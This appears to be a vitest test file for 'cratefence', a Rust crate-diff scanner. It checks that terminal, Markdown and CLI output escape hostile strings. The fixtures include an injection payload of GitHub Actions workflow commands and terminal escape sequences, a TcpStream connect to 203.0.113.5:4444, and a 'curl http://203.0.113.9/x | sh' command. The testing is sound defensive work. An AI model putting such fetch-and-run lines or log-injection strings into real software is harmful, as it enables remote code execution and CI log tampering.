/**
 * Attack 3 of issue 22: names, paths and messages carrying workflow commands (`\n::warning::…`),
 * terminal escape sequences (`\x1b]…`), carriage returns, C1 controls, bidi overrides and zero-width
 * characters must reach every text output (terminal text, Markdown / step summary, the lock text,
 * the CLI's messages) visibly escaped, never raw.
 */
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeTrees, treeFromFiles, type Report, type LockReport } from '../src/index.js';
import { formatText, formatLockText as formatLockTextReport } from '../src/report/text.js';
import { formatMarkdown } from '../src/report/markdown.js';
import { formatLockText } from '../src/lock/text.js';
import { hasVisibleText, safeCodeLine, safeText } from '../src/report/safe-text.js';
import { tempDir } from './helpers/tmp.js';

const ROOT = path.join(import.meta.dirname, '..');
const BIN = path.join(ROOT, 'bin', 'cratefence.js');

/** Everything a hostile string may carry, each after some text so it is not at the start. */
const PAYLOAD = 'x\n::warning::pwned\r::error file=a::b\x1b]0;title\x07\x1b[2J\u009b2J\u202eevil\u202c\u2066\u200b\u2028::add-mask::s ##[set-output name=a]b\u0085y';

/**
 * The checks every output must pass: no raw control character other than a newline (and a tab, in
 * code), no SGR sequence but the reporter's own colours, no bidi or zero-width character, no line the
 * Actions runner would read as a command (it trims leading blanks and breaks lines at CR too), no
 * `##[` anywhere — and the payload still there to read, escaped.
 */
function expectSafe(out: string, what: string): void {
  const plain = out.replace(/\x1b\[[0-9;]*m/g, '');
  expect(plain, `${what}: raw control`).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  expect(plain, `${what}: invisible`).not.toMatch(/[\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/);
  for (const line of plain.split(/\r\n|\r|\n/)) expect(line.trimStart().startsWith('::'), `${what}: command line ${JSON.stringify(line)}`).toBe(false);
  expect(plain, `${what}: ##[`).not.toContain('##[');
  expect(plain, `${what}: payload not visible`).toMatch(/\\{1,2}n\\{0,2}::warning::pwned/);
}

describe('safeText', () => {
  it.each([
    ['plain', 'serde_json', 'serde_json'],
    ['newline and command', 'a\n::warning::x', 'a\\n::warning::x'],
    ['leading command', '::error::x', '\\::error::x'],
    ['leading command after blanks', '  ::add-mask::s', '  \\::add-mask::s'],
    ['a lone colon that could meet another', ':', '\\:'],
    ['carriage return', 'a\r::set-output name=x::y', 'a\\r::set-output name=x::y'],
    ['tab', 'a\tb', 'a\\tb'],
    ['OSC title', '\x1b]0;pwn\x07', '\\x1b]0;pwn\\x07'],
    ['C1 CSI and NEL', '\u009b2J\u0085', '\\x9b2J\\x85'],
    ['DEL and NUL', '\u007f\u0000', '\\x7f\\x00'],
    ['bidi override', 'a\u202eb\u202c', 'a\\u{202e}b\\u{202c}'],
    ['isolates and marks', '\u2066\u2069\u200e\u061c', '\\u{2066}\\u{2069}\\u{200e}\\u{61c}'],
    ['zero-width', 'a\u200bb\ufeff\u2060', 'a\\u{200b}b\\u{feff}\\u{2060}'],
    ['line separator', 'a\u2028b', 'a\\u{2028}b'],
    ['old command form', 'x ##[warning]y', 'x #\\#[warning]y'],
    ['Rust path in a message', 'calls std::process::Command', 'calls std::process::Command'],
  ])('%s', (_, input, expected) => {
    expect(safeText(input)).toBe(expected);
  });

  it('keeps tabs in code, escapes the rest', () => {
    expect(safeCodeLine('\tlet s = "\x1b[31m";\r')).toBe('\tlet s = "\\x1b[31m";\\r');
  });

  it('tells visible text from blanks and invisible characters', () => {
    for (const s of ['', '   ', '\u200b', '\u200b\u200c\u200d\ufeff', '\t\n', '\u2800', '\u3164', '\u00a0\u2003', '\u202e']) expect(hasVisibleText(s), JSON.stringify(s)).toBe(false);
    for (const s of ['x', ' reviewed ', '\u200bok', '確認済み']) expect(hasVisibleText(s), JSON.stringify(s)).toBe(true);
  });
});

describe('the text formatters', () => {
  let report: Report;
  let lock: LockReport;
  beforeAll(() => {
    const manifest = (v: string) => `[package]\nname = "evil"\nversion = "${v}"\nedition = "2021"\n`;
    const old = treeFromFiles({ 'Cargo.toml': manifest('1.0.0'), 'src/lib.rs': 'pub fn get() -> usize { 1 }\n' });
    const nw = treeFromFiles({
      'Cargo.toml': manifest('1.0.1'),
      'src/lib.rs': 'pub fn get() -> usize { let _ = std::net::TcpStream::connect("203.0.113.5:4444"); 1 }\n',
    });
    const r = analyzeTrees(old, nw).report;
    expect(r.findings.length).toBeGreaterThan(0);
    // Every string a publisher (or a lockfile, or a server) can choose, carrying the payload.
    r.crate = { name: `evil${PAYLOAD}`, old: `1.0.0${PAYLOAD}`, new: `1.0.1${PAYLOAD}` };
    r.verdictReason = `reason${PAYLOAD}`;
    r.capabilities.added = [`cap${PAYLOAD}`];
    r.summary.partialFiles = [{ file: `src/p${PAYLOAD}.rs`, reason: `why${PAYLOAD}` }];
    r.findings = r.findings.map((f) => ({
      ...f,
      file: `src/lib${PAYLOAD}.rs`,
      message: `msg${PAYLOAD}`,
      item: `item${PAYLOAD}`,
      snippet: `let a = 1;\n${PAYLOAD}\n::warning::in-code`,
      note: `note${PAYLOAD}`,
      trace: [{ item: `hop${PAYLOAD}`, file: `src/h${PAYLOAD}.rs`, line: 3 }],
    }));
    r.policy = { configFile: `cratefence${PAYLOAD}.toml`, scanVerdict: 'review', scanScore: 40, approvedBy: [`party${PAYLOAD}`], suppressedFindings: 0, notes: [{ kind: 'cool-off', message: `note${PAYLOAD}` }] };
    report = r;
    lock = {
      kind: 'lock',
      lockSchemaVersion: 1,
      tool: r.tool as LockReport['tool'],
      lockfile: `Cargo${PAYLOAD}.lock`,
      verdict: 'block',
      summary: { changed: 1, added: 1, removed: 1, scanned: 1, errors: 1, notScanned: 1 },
      entries: [
        { name: `evil${PAYLOAD}`, change: 'changed', old: `1.0.0${PAYLOAD}`, new: `1.0.1${PAYLOAD}`, source: 'registry+x', lockLine: 3, verdict: 'review', report: r },
        { name: `bad${PAYLOAD}`, change: 'added', old: null, new: `0.1.0${PAYLOAD}`, source: 'registry+x', lockLine: 9, verdict: 'block', error: `fetch failed${PAYLOAD}` },
        { name: `fork${PAYLOAD}`, change: 'removed', old: `0.2.0${PAYLOAD}`, new: null, source: 'git+x', lockLine: null, verdict: null, note: `git${PAYLOAD}` },
      ],
      policyNotes: [{ kind: 'suppression-unused', message: `unused${PAYLOAD}` }],
      server: { url: `http://x${PAYLOAD}`, checked: 1, refused: [{ name: `srv${PAYLOAD}`, version: `1${PAYLOAD}`, lockLine: 2, state: `revoked${PAYLOAD}` }] },
    } as LockReport;
  });

  it.each([false, true])('terminal text (colour %s): single report and both lock forms', (color) => {
    expectSafe(formatText(report, { color }), 'formatText');
    expectSafe(formatLockTextReport(lock, { color }), 'report/text formatLockText');
    expectSafe(formatLockText(lock, { color }), 'lock/text formatLockText');
  });

  it('Markdown (the step summary and the PR comment), single report and lock report', () => {
    expectSafe(formatMarkdown(report), 'markdown');
    expectSafe(formatMarkdown(lock), 'markdown lock');
  });
});

describe('the CLI end to end', () => {
  function cli(args: string[], cwd: string): Promise<{ code: number | null; out: string; err: string }> {
    return new Promise((resolve) => {
      const p = spawn(process.execPath, [BIN, ...args], { cwd, env: { ...process.env, NO_COLOR: '1', XDG_CACHE_HOME: tempDir('cf-xdg-'), CARGO_HOME: tempDir('cf-home-') } });
      let out = '';
      let err = '';
      p.stdout.on('data', (d) => (out += d));
      p.stderr.on('data', (d) => (err += d));
      p.on('close', (code) => resolve({ code, out, err }));
    });
  }

  it('a crate whose file names and string literals carry the payload: text and Markdown output stay safe', async () => {
    const d = tempDir('cf-text-');
    const manifest = (v: string) => `[package]\nname = "evil"\nversion = "${v}"\nedition = "2021"\n`;
    mkdirSync(path.join(d, 'old', 'src'), { recursive: true });
    writeFileSync(path.join(d, 'old', 'Cargo.toml'), manifest('1.0.0'));
    writeFileSync(path.join(d, 'old', 'src', 'lib.rs'), 'pub fn f() {}\n');
    const bin = path.join(d, 'new', 'src', 'bin');
    mkdirSync(bin, { recursive: true });
    writeFileSync(path.join(d, 'new', 'Cargo.toml'), manifest('1.0.1'));
    writeFileSync(path.join(d, 'new', 'src', 'lib.rs'), `pub fn f() { let _ = std::net::TcpStream::connect("203.0.113.5:4444${PAYLOAD.replace(/[\\"]/g, '')}"); }\n`);
    // A file name only a hostile archive or folder would have: a newline and a workflow command in it.
    writeFileSync(path.join(bin, 'x\n::warning::pwned\x1b]0;t\x07.rs'), 'fn main() { let _ = std::process::Command::new("sh").arg("-c").arg("curl http://203.0.113.9/x | sh").status(); }\n');
    for (const format of ['text', 'markdown']) {
      const r = await cli(['diff', 'old', 'new', '--format', format, '--no-progress'], d);
      expect(r.code, r.err).toBe(1);
      expectSafe(r.out, `cli ${format}`);
      expect(r.err).toBe('');
    }
  });

  it('cratefence lock: package names from the lockfile reach stdout and stderr escaped', async () => {
    const d = tempDir('cf-text-');
    mkdirSync(path.join(d, '.git'));
    writeFileSync(path.join(d, 'old.lock'), 'version = 3\n\n[[package]]\nname = "app"\nversion = "0.1.0"\n');
    const bad = 'evil\\n::warning::pwned\\u001b]0;t\\u0007';
    writeFileSync(path.join(d, 'new.lock'), `version = 3\n\n[[package]]\nname = "${bad}"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "${'a'.repeat(64)}"\n\n[[package]]\nname = "fork\\n::error::x"\nversion = "0.1.0"\nsource = "git+https://example.org/f#abc"\n`);
    const r = await cli(['lock', 'old.lock', 'new.lock', '--registry', 'http://127.0.0.1:9/'], d);
    // No name cargo accepts has a control character: the lockfile is refused in one line that does not
    // repeat the name, so nothing of it reaches the terminal or the CI log.
    expect(r.code).toBe(2);
    expect(r.out).toBe('');
    expect(r.err).toMatch(/control character/);
    expect(r.err).not.toContain('::warning::');
    expect(r.err).not.toContain('\x1b');
    expect(r.err.trim().split('\n')).toHaveLength(1);
  });
});
